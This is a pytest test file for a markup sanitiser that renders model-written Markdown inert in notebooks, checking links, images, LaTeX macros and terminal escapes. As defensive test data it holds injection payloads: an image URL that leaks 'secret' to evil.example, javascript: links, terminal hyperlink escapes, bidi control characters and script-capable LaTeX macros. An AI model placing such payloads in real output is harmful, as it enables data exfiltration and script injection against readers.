"""Whatever a model writes, what a notebook shows of it is inert."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt

from qwennb.answer import markup

ATTACKS = json.loads((Path(__file__).parent / "attacks.json").read_text(encoding="utf-8"))

# What Markdown itself makes, and what markup.py writes of its own.
HARMLESS = frozenset(
    [
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "em",
        "strong",
        "s",
        "del",
        "code",
        "samp",
        "pre",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "span",
        "div",
    ]
)
OWN_ATTRIBUTES = {("code", "class"), ("ol", "start"), ("th", "style"), ("td", "style"), ("a", "href")}


class Finder(HTMLParser):
    """Collects what in a page could act: tags, attributes, addresses and comments that text does not need."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []
        self.links: list[tuple[str, str]] = []
        self.text: list[str] = []
        self._open: list[list[str]] = []

    def handle_starttag(self, tag, attrs):
        if tag not in HARMLESS:
            self.active.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) not in OWN_ATTRIBUTES or (
                name == "style" and not (value or "").startswith("text-align:")
            ):
                self.active.append(f"{tag}.{name}={value}")
        if tag == "a":
            self._open.append([dict(attrs).get("href") or "", ""])

    def handle_endtag(self, tag):
        if tag == "a" and self._open:
            self.links.append(tuple(self._open.pop()))

    def handle_data(self, data):
        self.text.append(data)
        for link in self._open:
            link[1] += data

    def handle_comment(self, data):
        self.active.append(f"<!--{data}")

    def handle_decl(self, decl):
        self.active.append(f"<!{decl}")

    def handle_pi(self, data):
        self.active.append(f"<?{data}")

    unknown_decl = handle_decl


def found_in(page: str) -> Finder:
    finder = Finder()
    finder.feed(page)
    finder.close()
    text = "".join(finder.text)
    for href, label in finder.links:
        host = urlsplit(href).netloc
        if urlsplit(href).scheme not in ("http", "https"):
            finder.active.append(href)
        elif host not in label and f"({host})" not in text:
            finder.active.append(f"hidden host {href}")
    return finder


def commonmark(source: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(source)


def without_code_spans(source: str) -> str:
    """As a renderer would read it that finds no span of code where we wrote one."""
    return MarkdownIt("commonmark", {"html": True}).disable("backticks").render(source)


READERS = [commonmark, without_code_spans]


def test_the_corpus_holds_at_least_five_hundred_attacks():
    assert len(set(ATTACKS)) >= 500
    alive = sum(bool(found_in(commonmark(attack)).active) for attack in ATTACKS)
    assert alive > 120, "the corpus must bite where nothing is done"


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    "frame", ["{}", "before\n{}\nafter", "- item\n\n  {}", "> {}", "| a |\n|---|\n| {} |"]
)
def test_no_attack_leaves_an_active_node(read, frame):
    for attack in ATTACKS:
        for made in (markup.inert(frame.replace("{}", attack)), frame.replace("{}", markup.literal(attack))):
            assert not found_in(read(made)).active, (attack, made)


@pytest.mark.slow
def test_what_is_shown_while_it_grows_is_inert_too():
    for attack in ATTACKS:
        for end in range(1, len(attack), 3):
            made = markup.inert(markup.complete_part(attack[:end]))
            assert not found_in(commonmark(made)).active, (attack[:end], made)


TEXTS = [
    "# Title\n\nSome *text*.\n\n- one\n\n      code of one\n- two\n\n1. a\n\n   b\n\nend\n\n    indented\n\n    more\n\nafter",
    "so\n\n```python\nx = 1\n\n\ny = 2\n```\n\nand $5 or $10\n\n$$\na\n$$\n\n| a |\n|---|\n| $x$ |\n\n> quote\n>\n> more\n\ndone",
    "one\r\n\r\ntwo\r\rthree\x1b[31m red\n\n\x1b[0m\n\nlast",
    "",
]


@pytest.mark.parametrize("size", [1, 7, 60])
@pytest.mark.slow
def test_a_text_that_grows_is_shown_as_if_it_were_read_whole_each_time(size):
    for text in [*TEXTS, "\n\n".join(ATTACKS[::20]), "\n".join(ATTACKS[1::40])]:
        growing = markup.Growing()
        for end in range(0, len(text), size):
            growing.add(text[end : end + size])
            whole = text[: end + size]
            shown, expected = growing.inert(), markup.inert(markup.complete_part(whole))
            # How many empty lines stand between two paragraphs is nothing that is seen.
            assert re.sub(r"\s*\n\n+", "\n\n", shown) == re.sub(r"\s*\n\n+", "\n\n", expected), whole[-200:]


def test_what_is_finished_is_not_read_again():
    growing = markup.Growing()
    growing.add("word **bold** and $x$\n\n" * 5_000)
    growing.inert()
    started = time.process_time()
    for _ in range(50):
        growing.add("one more piece\n\n")
        growing.inert()
    once = time.process_time()
    markup.inert("word **bold** and $x$\n\n" * 5_000)
    assert once - started < 5 * (time.process_time() - once), (
        "fifty times more costs less than five times the whole"
    )


@pytest.mark.slow
def test_two_attacks_together_are_no_more_than_two():
    for first, second in zip(ATTACKS, reversed(ATTACKS), strict=True):
        for joint in (" ", "\n", "\n\n", "`", "$"):
            made = markup.inert(first + joint + second)
            assert not found_in(commonmark(made)).active, (first, joint, second)


def test_making_a_text_inert_twice_makes_nothing_active():
    for attack in ATTACKS:
        assert not found_in(commonmark(markup.inert(markup.inert(attack)))).active, attack


@pytest.mark.parametrize("sanitised", [False, True])
def test_nbconvert_serves_nothing_active_either(sanitised):
    pytest.importorskip("nbconvert")
    from nbconvert.filters import clean_html, markdown2html_mistune

    for attack in ATTACKS:
        page = markdown2html_mistune(markup.inert(attack))
        page = clean_html(page) if sanitised else page
        page = page.replace('<div class="highlight">', "<div>").replace('<span class="', '<span data-class="')
        for own in (
            '<input class="task-list-item-checkbox" type="checkbox" disabled/>',
            ' class="task-list-item"',
        ):
            page = page.replace(own, "")  # a box that nobody can press
        active = [
            a
            for a in found_in(page).active
            if not a.startswith(("#", "span.data-class", "a.class", "h4.id", "h5.id", "h6.id", "a.name"))
        ]
        assert not active, (attack, active)


def test_html_of_a_model_is_shown_as_the_text_it_is():
    for said in ("<b>bold</b>", "a < b > c", "x <- 3", "<!-- note -->", "Map<String, List<int>>"):
        assert "".join(found_in(commonmark(markup.inert(said))).text).strip() == said


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![a cat](https://evil.example/p.png?q=secret)", "[image: evil.example] a cat"),
        ("![](data:image/png;base64,AAAA)", "[image]"),
        ("[here](https://docs.example/x)", "here (docs.example)"),
        ("[docs.example](https://docs.example/x)", "docs.example"),
        ("[docs.example](https://evil.example/x)", "docs.example (evil.example)"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("<https://docs.example/x>", "https://docs.example/x"),
        ("see https://docs.example/a_b_(c).", "see https://docs.example/a_b_(c)."),
        ("xs[0](1) and a[b][c]", "xs[0](1) and a[b][c]"),
        (r"an escaped \* and \[x\](y)", "an escaped * and [x](y)"),
    ],
)
def test_links_and_images_show_where_they_lead(said, shown):
    assert "".join(found_in(commonmark(markup.inert(said))).text).strip() == shown


def test_no_renderer_finds_an_address_that_was_not_written_as_one():
    assert markup.inert("ask a@evil.example, not @me") == "ask a&#64;evil.example, not @me"
    assert markup.literal('at http://evil.example">') == 'at http&#58;//evil.example"&#62;'


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (r"so \(x^2\) is", "so $x^2$ is"),
        (r"so \( a < b \) is", r"so $a \lt b$ is"),
        (r"so \[x\] is", "so $$x$$ is"),
        ("so $x$ and $\\alpha_1$", "so $x$ and $\\alpha_1$"),
        ("\\[\na = b\n\\]", "$$\na = b\n$$"),
        ("$$a$$", "$$\na\n$$"),
        (
            "\\begin{align*}\na &= b \\\\\nc &= d\n\\end{align*}",
            "$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$",
        ),
        ("`\\(x\\)`", "<code>&#92;&#40;x&#92;&#41;</code>"),
        ("```\n$x$ \\(y\\)\n```", "```\n$x$ \\(y\\)\n```"),
    ],
)
def test_mathematics_is_written_one_way(said, shown):
    assert markup.inert(said) == shown


@pytest.mark.parametrize("said", ["it costs $5", "a $ sign", "50$ a day"])
def test_a_lone_dollar_stays_as_it_is(said):
    assert markup.inert(said) == said


@pytest.mark.parametrize(
    "said",
    [
        "from $5 to $10",
        "$1,000 or $2,000",
        "$5/$6 each",
        "US$5 and AU$6",
        "it costs $5 (or 5$)",
        r"\$5 and \$6",
        "$5k–$10k",
        "echo $HOME and $PATH now",
    ],
)
def test_money_is_never_taken_for_mathematics(said):
    made = markup.inert(said)
    assert "$" not in made.replace("<span>\\$</span>", "")
    assert "".join(found_in(commonmark(made)).text).strip() == said.replace("\\", "")


def test_code_stays_as_it_was_written():
    code = 'def f(x: "List[int]") -> None:\n\tprint(f"<b>{x}</b>", `x`, $y$)  # ![](u)'
    page = commonmark(markup.inert(f"1. so:\n\n   ```python\n{code}\n   ```\n2. and"))
    assert f"{code}\n" in "".join(found_in(page).text)
    assert "language-python" in page


def test_a_drawing_language_stays_text():
    for language in ("mermaid", "Mermaid", "geojson", "math"):
        assert markup.inert(f"```{language}\nx\n```") == "```\nx\n```"


def test_ordinary_markdown_passes_as_it_is():
    said = "Some *text* with **bold** and `code`.\n\n- one\n- two\n\n1. a\n2. b\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\nlist[1, 2] end"
    assert markup.inert(said) == said


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("# Title", "#### Title"),
        ("## Part\ntext", "##### Part\ntext"),
        ("#### Deep", "###### Deep"),
        ("> # quoted", "> #### quoted"),
        ("- ## listed", "- ##### listed"),
        ("Title\n=====", "#### Title"),
        ("text\nPart\n---\nmore", "text\n##### Part\nmore"),
        ("> Part\n> ---", "> ##### Part"),
        ("#tag", "#tag"),
        ("text\n\n---", "text\n\n---"),
        ("- item\n---", "- item\n---"),
        ("> said\n---", "> said\n---"),
        ("| a |\n|---|\n| 1 |\n---", "| a |\n|---|\n| 1 |\n---"),
        ("```\n# code\n```", "```\n# code\n```"),
    ],
)
def test_a_heading_stands_below_the_notebooks_own(said, shown):
    assert markup.inert(said).strip() == shown


def test_a_formula_that_has_only_begun_is_held_back():
    assert markup.complete_part("so $$x^2") == "so "
    assert markup.complete_part("so \\(x\\) and \\[y") == "so \\(x\\) and "
    assert markup.complete_part("so \\(x\\) and $$y$$ done") == "so \\(x\\) and $$y$$ done"
    assert markup.complete_part("see ![a](http://ev") == "see "
    assert markup.complete_part("$$" + "x" * 5000) == "$$" + "x" * 5000


def test_plain_text_steers_no_terminal():
    assert (
        markup.plain("\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x07\x9b2J")
        == "red click2J"
    )
    assert markup.plain("a\r\nb\tc\x00") == "a\nb\tc"


@pytest.mark.slow
def test_a_long_answer_is_made_inert_in_a_moment():
    for text in (
        "word $x$ `c` [a](b) <i> " * 4000,
        "[" * 20000,
        "`" * 20000,
        "$" * 20000,
        "\\(" * 10000,
        "![" * 10000,
        "> " * 20000,
        "$$\nx\n" * 5000,
    ):
        started = time.process_time()
        markup.inert(text)
        assert time.process_time() - started < 3.0, text[:20]


MACROS = (
    r"\href{javascript:alert(1)}{x}", r"\url{http://a.example}", r"\style{color:red}{x}", r"\class{big}{x}",
    r"\cssId{own}{x}", r"\htmlId{own}{x}", r"\data{a=1}{x}", r"\require{html}", r"\def\x{\x\x}\x", r"\gdef\x{1}",
    r"\let\frac\sqrt", r"\newcommand{\x}{1}", r"\renewcommand{\frac}[2]{#1}", r"\includegraphics{http://a.example/p.png}",
    r"\input{file}", r"\csname href\endcsname", r"\unicode{x41}", r"\bbox[red]{x}", r"\texttip{x}{y}", r"\mmlToken{mi}{x}",
)  # fmt: skip


@pytest.mark.parametrize("macro", MACROS)
@pytest.mark.parametrize("form", ["${}$", "$${}$$", r"\({}\)", r"\[{}\]", "$$\n{}\n$$"])
def test_a_formula_that_could_do_more_than_mathematics_is_shown_as_code(macro, form):
    shown = markup.inert(f"So: {form.format(macro)}" if "\n" not in form else form.format(macro))
    fenced = re.fullmatch(r"<samp>\n\n```latex\n.*\n```\n\n</samp>", shown, re.DOTALL)
    assert fenced or ("$" not in shown and "<code>" in shown), shown


@pytest.mark.parametrize(
    "sign", [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x7, 0x9B)]
)
def test_no_sign_that_turns_text_around_or_steers_a_terminal_is_left(sign):
    text = f"pay {sign}evil{sign} now"
    for shown in (
        markup.inert(text),
        markup.plain(text),
        markup.literal(text),
        markup.code_block(text),
        markup.inert(f"`{text}`"),
        markup.inert(f"[{text}](https://a.example)"),
    ):
        assert sign not in shown and "pay" in shown


@pytest.mark.parametrize(
    "name",
    [
        "mermaid-x", "mermaid2", "mermaid+", "mermaid.js", "mermaidjs", "mermaid_x", "mermaid#1", "{.mermaid-x}", "MERMAID",
        "math", "geojson", "topojson", "stl", "vega-lite", "svg", "html+svg", "plantuml", "dot", "not-a-language", "x" * 31,
    ],
)  # fmt: skip
def test_a_fence_has_no_name_but_that_of_a_language(name):
    assert markup.inert(f"```{name}\nx\n```") == "```\nx\n```"
    assert markup.code_block("x", name) == "```\nx\n```"


@pytest.mark.parametrize(
    "name", ["python", "Python", "c++", "c#", "objective-c", "js", "{.python}", "json title=x"]
)
def test_a_fence_keeps_the_name_of_a_language(name):
    language = name.strip("{.}").split()[0]
    assert markup.inert(f"```{name}\nx\n```") == f"<samp>\n\n```{language}\nx\n```\n\n</samp>"
